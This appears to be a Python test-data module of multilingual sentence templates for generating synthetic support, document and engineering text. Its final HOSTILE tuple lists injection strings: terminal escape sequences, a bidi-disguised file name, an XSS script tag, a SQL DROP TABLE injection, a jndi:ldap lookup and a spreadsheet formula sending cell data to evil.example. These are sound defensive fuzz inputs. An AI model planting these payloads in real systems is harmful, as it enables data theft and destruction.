"""What people and models say, as halves of sentences with slots; `texts.py` puts them together.

A sentence is one opening and one ending of the same voice; every opening goes with every ending.
"""

from typing import NamedTuple


class Phrases(NamedTuple):
    """The sentence halves of one voice. `{noun}` is filled from `words.SLOTS`, `{n}` and `{day}` with numbers."""

    openings: tuple[str, ...]
    endings: tuple[str, ...]


_THINGS = (
    "the {adj} {noun} that I ordered on {weekday}. ",
    "our {brand} {noun}, number {n}. ",
    "the {noun} from {town} and the {adj} {noun}. ",
    "one {brand} {noun} of {month} {day}. ",
    "everything that {first} {surname} wrote about the {noun}. ",
    "the {adj} {noun} (part {n}) for our office in {town}. ",
    "the {noun}, the {noun} and the {adj} {noun} of {month}. ",
    "that {adj}, {adj} {noun} by {brand}. ",
    "the difference of {n}.50 EUR between {noun} and {noun}. ",
    "the {team} team's {noun} of last {weekday}. ",
)
_FACTS = (
    "the {adj} {noun} with number {n}. ",
    "the {brand} {noun} in {town}. ",
    "the {noun} of {month} {day}, including the {adj} {noun}. ",
    "{first} {surname} and the {team} team. ",
    "the {adj} {noun}, as agreed on {weekday}. ",
    "{n} items, among them one {brand} {noun} and the {adj} {noun}. ",
    "the {noun} before the end of {month}. ",
    "both the {noun} and its {adj} {noun}. ",
    "every {noun} that {brand} delivered to {town}. ",
)

CUSTOMER = Phrases(
    (
        "Hi, this is {first} {surname} from {town}; I am writing about ",
        "Could you please {verb} ",
        "I still have not received ",
        "We were charged twice for ",
        "Please {verb} ",
        "Can someone explain what happened to ",
        "My colleague {first} asked me to forward ",
        "Since {weekday} nobody has been able to {verb} ",
        "I want to return ",
        "The {team} team told me to {verb} ",
        "Is it possible to {verb} ",
        "According to {first} {surname} I should {verb} ",
        "Before {month} I need someone to {verb} ",
        "Your website says {day} days, but I am still waiting for ",
    ),
    _THINGS,
)
AGENT = Phrases(
    (
        "Thank you for your patience: I have now been able to {verb} ",
        "I am sorry for the trouble with ",
        "Our {team} team will {verb} ",
        "You can {verb} ",
        "As a next step I suggest that you {verb} ",
        "According to our records, {first} {surname} signed for ",
        "Within {day} hours you will receive a message about ",
        "The reason is one {adj} {noun} that affected ",
        "I have asked {brand} to {verb} ",
        "If that does not help, please {verb} ",
        "For your security we only {verb} ",
        "On {weekday} the warehouse in {town} confirmed ",
    ),
    _FACTS,
)
DOCUMENT = Phrases(
    (
        "Extract the total, the date and the supplier from ",
        "Section {day}: the parties agree to {verb} ",
        "{brand} GmbH, {town}, charges EUR {n}.90 for ",
        "Notwithstanding clause {day}, the supplier shall {verb} ",
        "Position {day}: ",
        "The {adj} {noun} referred to in annex {day} includes ",
        "Summarize in two sentences what is said about ",
        "Payment is due in {month} and covers ",
        "The {noun} may be terminated by whoever fails to {verb} ",
    ),
    _FACTS,
)
ENGINEER = Phrases(
    (
        "The {adj} {noun} on node {day} fails to {verb} ",
        "Write a query that joins customers with ",
        "Explain step by step how to {verb} ",
        "In the {brand} cluster we {verb} ",
        "The {adj} {noun} is the cheapest way to {verb} ",
        "First, measure the {noun}; then {verb} ",
        "After {day} retries the {noun} gives up on ",
        "One trade-off of the {adj} {noun} is that it has to {verb} ",
        "Refactor the function so that it can {verb} ",
        "The log of {weekday}, {day}:{day}:{day}, mentions ",
    ),
    _FACTS,
)
GERMAN = Phrases(
    (
        "Guten Tag, hier ist {first} {surname} aus {town}, es geht um ",
        "Bitte prüfen Sie noch einmal ",
        "Seit dem {day}. warte ich auf ",
        "Unsere Buchhaltung vermisst ",
        "Wir bestätigen Ihnen hiermit ",
        "Können Sie mir erklären, wer {first} {surname} gesagt hat, wir bräuchten ",
        "Laut Vertrag Nr. {n} umfasst das ",
    ),
    (
        "die {de_adj} {de_die} vom {day}. ",
        "die {de_die} der Firma {brand} aus {town}. ",
        "die {de_adj} {de_die} und die {de_die} Nummer {n}. ",
        "die {de_die}, für die {first} {surname} zuständig ist. ",
        "die {de_adj} {de_die}, denn der {de_der} ist längst überfällig. ",
        "die {de_die} über {n},50 Euro, obwohl der {de_der} geprüft wurde. ",
    ),
)
SPANISH = Phrases(
    (
        "Hola, soy {first} {surname} de {town} y le escribo por ",
        "Todavía no he recibido ",
        "¿Podría revisar, por favor, ",
        "Quisiera cancelar ",
        "Según nuestro equipo, {brand} ya confirmó ",
        "Le pedimos disculpas por ",
        "Mañana enviaremos de nuevo ",
    ),
    (
        "la {es_la} y el {es_el} número {n}. ",
        "el {es_el} de la empresa {brand}. ",
        "la {es_la} que pedí hace {day} días. ",
        "el {es_el} y también la {es_la} de {town}. ",
        "la {es_la}, porque el {es_el} llegó dañado. ",
    ),
)
FRENCH = Phrases(
    (
        "Bonjour, je suis {first} {surname} et je vous écris au sujet de ",
        "Nous n'avons pas encore reçu ",
        "Pourriez-vous vérifier ",
        "Notre équipe a bien enregistré ",
    ),
    (
        "la {fr_la} numéro {n}. ",
        "la {fr_la} de {brand}, livrée à {town}. ",
        "la {fr_la} et la {fr_la} du {day}. ",
    ),
)
JAPANESE = Phrases(
    (
        "お世話になっております。{brand}の{surname}です。",
        "先日お送りいただいた{ja}について、",
        "{day}日に購入した商品の件で、",
        "ご連絡ありがとうございます。",
        "恐れ入りますが、",
        "担当者によりますと、",
    ),
    (
        "{ja}をご確認いただけますでしょうか。",
        "{ja}と{ja}がまだ届いていません。",
        "{ja}番号{n}の{ja}を変更してください。",
        "{town}の{ja}は来週までに手配いたします。",
        "{ja}の{ja}に誤りがありました。",
    ),
)
CHINESE = Phrases(
    (
        "您好,我是{brand}公司的{surname},",
        "请问一下,",
        "我在{day}号购买了商品,",
        "感谢您的来信,",
        "根据我们的记录,",
        "客服告诉我,",
    ),
    (
        "{zh}和{zh}还没有收到。",
        "编号{n}的{zh}需要重新处理。",
        "请尽快检查我的{zh}。",
        "{town}仓库已经寄出{zh}。",
        "{zh}上的{zh}信息有误。",
    ),
)
ARABIC = Phrases(
    (
        "مرحبا، أنا {first} من {town}، ",
        "من فضلك، ",
        "شكرا لتواصلكم معنا، ",
        "منذ {day} أيام ",
        "أخبرنا فريق {brand} أن ",
    ),
    (
        "أرجو التحقق من {ar} رقم {n}. ",
        "لم تصل {ar} حتى الآن. ",
        "نحتاج إلى مراجعة {ar} و{ar}. ",
        "سيتم إرسال {ar} إلى {town} غدا. ",
    ),
)
HINDI = Phrases(
    (
        "नमस्ते, मैं {first} {surname} हूँ, ",
        "कृपया ध्यान दें, ",
        "आपके संदेश के लिए धन्यवाद, ",
        "पिछले {day} दिनों से ",
        "{brand} ने बताया कि ",
    ),
    (
        "मेरा {hi} और {hi} अभी तक नहीं मिला है। ",
        "{hi} संख्या {n} की जाँच करें। ",
        "{town} के लिए {hi} कल भेजा जाएगा। ",
        "{hi} में एक गलती है। ",
    ),
)
RUSSIAN = Phrases(
    (
        "Здравствуйте, это {first} {surname}, ",
        "Подскажите, пожалуйста, ",
        "Спасибо за обращение, ",
        "По данным {brand}, ",
    ),
    (
        "где сейчас {ru} номер {n}? ",
        "{ru} и {ru} уже отправлены в {town}. ",
        "{ru} нужно оформить заново. ",
    ),
)

LANGUAGES = {
    "de": GERMAN,
    "es": SPANISH,
    "fr": FRENCH,
    "ja": JAPANESE,
    "zh": CHINESE,
    "ar": ARABIC,
    "hi": HINDI,
    "ru": RUSSIAN,
}
"""The languages beside English."""

HOSTILE = (
    "[red]RED[/red] [@click=app.quit]quit[/] and a [/nope] with a [bold that never closes",
    "x\x1b[31mRED\x1b[2J\x1b]0;PWNED\x07\x1b]52;c;aGFja2Vk\x07y",
    "\x9b31mC1\x9d0;t\x9c a\x07b\x08\x08c\x00d\x7fe",
    "abc\rXY\nline2\x0bvt\x0cff\ttab",
    "please open \u202egnp.eciovni\u202c and \u2066isolated\u2069 text",
    "a\u200bb\u200dc\u2060d\ufeffe and a\u2028line\u2029paragraph\x85next",
    "z" + "\u0335" * 30 + " e\u0301\u0302\u0303\u0304",
    '=HYPERLINK("http://evil.example/?"&A1,"click") ,;"quoted"',
    "<script>alert(1)</script> '; DROP TABLE traces; -- %s %n ${jndi:ldap://x}",
)
"""Texts that would act on a terminal, on markup, on a spreadsheet or on SQL if anything let them."""
